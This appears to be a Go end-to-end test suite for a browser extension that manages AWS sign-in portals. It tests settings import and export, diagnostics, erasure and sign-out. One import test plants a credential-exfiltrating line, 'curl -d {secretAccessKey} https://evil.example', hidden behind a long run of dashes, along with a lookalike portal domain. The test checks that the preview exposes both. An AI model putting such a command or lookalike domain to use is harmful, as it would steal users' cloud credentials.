package e2e

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"portico/internal/browser"
	"portico/internal/mainjob"
	"portico/internal/portaltest"
)

// takeIn has the settings' page read a file.
func takeIn(t *testing.T, page *browser.Page, json string) {
	t.Helper()
	eval[bool](t, page, fmt.Sprintf(`(() => {
		const files = new DataTransfer();
		files.items.add(new File([%q], 'portico-settings.json'));
		const input = document.getElementById('import');
		input.files = files.files;
		input.dispatchEvent(new Event('change'));
		return true;
	})()`, json))
}

// What one browser saves another takes in: nothing is changed before it was shown,
// and no portal that is there already is changed at all.
func TestSettingsAndPortalsMoveByAFile(t *testing.T) {
	j, portal := signedIn(t, portaltest.Config{Accounts: 12, Roles: 2, TPS: -1, Interval: time.Second})
	page := settings(t, j)
	must(t, page.Fill("#region", "eu-west-3"))
	kept(t, page, "region\teu-west-3")
	eval[bool](t, page, "(() => { URL.createObjectURL = (blob) => { globalThis.saved = blob.text(); return 'blob:none'; }; return true; })()")
	must(t, page.Click("#export"))
	saw(t)(page.WaitText("#export-said", "Saved"))
	file := eval[string](t, page, "saved")
	holds(t, file, j.StartURL, `"region": "eu-west-3"`)
	for _, secret := range append(portal.Secrets(), portal.Directory()[0].ID, portal.Directory()[0].Name) {
		if strings.Contains(file, secret) {
			t.Errorf("the file holds %q", secret)
		}
	}

	b := launch(t, browser.Options{Extension: devBuild})
	other, err := b.NewTab(b.Address("options/options.html"))
	must(t, err, other.Wait(settled))
	for _, bad := range []string{"{", "[]", `{"form":"x"}`, `{"form":"portico-settings","version":2}`, `{"form":"portico-settings","version":1,"settings":{"region":7}}`, `{"form":"portico-settings","version":1,"portals":[{"startUrl":1}]}`} {
		takeIn(t, other, bad)
		must(t, other.Wait("/^That .*/.test(document.getElementById('import-said').textContent) && document.getElementById('import-preview').hidden"))
		eval[bool](t, other, "(() => { document.getElementById('import-said').textContent = ''; return true; })()")
	}
	takeIn(t, other, file)
	holds(t, saw(t)(other.WaitText("#import-changes", "New portal")), j.StartURL, "Region: from nothing to “eu-west-3”")
	if n := eval[int](t, other, "chrome.storage.local.get(['portals', 'settings']).then(s => Object.keys(s).length)"); n != 0 {
		t.Error("something was stored before it was agreed to")
	}
	must(t, other.Click("#import-apply"))
	saw(t)(other.WaitText("#import-said", "Taken in."))
	kept(t, other, "region\teu-west-3")
	holds(t, saw(t)(other.WaitText("#portals", "start")), portal.Region())
	takeIn(t, other, file)
	saw(t)(other.WaitText("#import-said", "Nothing would change"))
	// What means nothing stays out, and is said before anything is taken in.
	takeIn(t, other, `{"form":"portico-settings","version":1,"settings":{"region":"Mars"},"portals":[{"startUrl":"https://acme.awsapps.com.evil.example/start","region":"us-east-1"}]}`)
	holds(t, saw(t)(other.WaitText("#import-refused", "Mars")), "not how Regions are written", "acme.awsapps.com.evil.example", "looks like it")
	must(t, other.Wait("document.getElementById('import-apply').disabled && !document.getElementById('import-changes').children.length"))
	kept(t, other, "region\teu-west-3")
	// All of a change is shown, however long, and each portal that gets another name;
	// what is here stays, and stays shown.
	end := "curl -d {secretAccessKey} https://evil.example"
	takeIn(t, other, fmt.Sprintf(`{"form":"portico-settings","version":1,"settings":{"template":%q,"portals":%q},
		"portals":[{"startUrl":%q,"region":"eu-west-1"},{"startUrl":"https://acme.awsapps.com/start","region":"us-west-2"}]}`,
		"export A={accessKeyId} # "+strings.Repeat("-", 400)+"\n"+end, "nobody\tNobody\tred\n"+j.StartURL+"\tPRODUCTION\tred\n", j.StartURL))
	holds(t, saw(t)(other.WaitText("#import-changes", "acme")), end, j.StartURL+" is called “PRODUCTION, red”, was nothing")
	holds(t, saw(t)(other.WaitText("#import-refused", "stays so")), j.StartURL)
	eval[bool](t, other, "(() => { document.getElementById('import-preview').scrollIntoView(); return true; })()")
	must(t, other.Screenshot(filepath.Join(j.Shots, "taking-in.png")), other.Click("#import-apply"))
	saw(t)(other.WaitText("#import-said", "Taken in."))
	stored := eval[string](t, other, "chrome.storage.local.get(null).then(s => s.portals + s.settings)")
	holds(t, stored, j.StartURL+"\nhttp", "PRODUCTION", "acme")
	if strings.Contains(stored, "Nobody") {
		t.Errorf("stored is %q", stored)
	}
}

// Diagnostics say how things are, and no name, address or secret.
func TestDiagnosticsNameNobody(t *testing.T) {
	j, portal := signedIn(t, portaltest.Config{Accounts: 12, Roles: 2, TPS: -1, Interval: time.Second})
	page := settings(t, j)
	must(t, page.Click("#diagnose"))
	text := saw(t)(page.WaitText("#diagnostics", "1 portal\n"))
	holds(t, text, "session in", "12 accounts, 24 roles", "problem none", "region "+portal.Region())
	secrets := append(portal.Secrets(), strings.TrimPrefix(j.StartURL, "http://"))
	for _, a := range portal.Directory() {
		secrets = append(secrets, a.ID, a.Name, a.Email)
	}
	for _, secret := range secrets {
		if strings.Contains(text, secret) {
			t.Errorf("they hold %q", secret)
		}
	}
}

// Erasing everything ends sessions and leaves nothing.
func TestEverythingIsErased(t *testing.T) {
	j, portal := signedIn(t, portaltest.Config{Accounts: 12, Roles: 2, TPS: -1, Interval: time.Second})
	page := settings(t, j)
	must(t, page.Fill("#region", "eu-west-3"))
	kept(t, page, "region\teu-west-3")
	must(t, page.Click("#erase"), page.Click("#erase-now"))
	saw(t)(page.WaitText("#erase-said", "Everything is erased."))
	for _, area := range []string{"local", "session"} {
		// The worker may note its version anew.
		if left := eval[string](t, page, "chrome.storage."+area+".get(null).then(all => Object.keys(all).filter(key => key !== 'version').join())"); left != "" {
			t.Errorf("storage.%s holds %s", area, left)
		}
	}
	if n := portal.Sessions(); n != 0 {
		t.Errorf("%d sessions go on", n)
	}
	again := &mainjob.Job{Browser: j.Browser, StartURL: j.StartURL, Region: j.Region}
	must(t, open(t, again).Wait("!document.getElementById('add').hidden"))
}

// One button signs out everywhere; what is to be forgotten then is.
func TestSigningOutOfAllPortals(t *testing.T) {
	j, portal := signedIn(t, portaltest.Config{Accounts: 12, Roles: 2, TPS: -1, Interval: time.Second})
	page := settings(t, j)
	must(t, page.Click("#forgetList"))
	kept(t, page, "forgetList\ttrue")
	must(t, page.Click("#leave-all"))
	saw(t)(page.WaitText("#leave-said", "Signed out."))
	if n := portal.Sessions(); n != 0 {
		t.Errorf("%d sessions go on", n)
	}
	for _, area := range []string{"local", "session"} {
		if dump := eval[string](t, page, "chrome.storage."+area+".get(null).then(all => JSON.stringify(all))"); strings.Contains(dump, portal.Directory()[0].Name) {
			t.Errorf("storage.%s names an account", area)
		}
	}
}
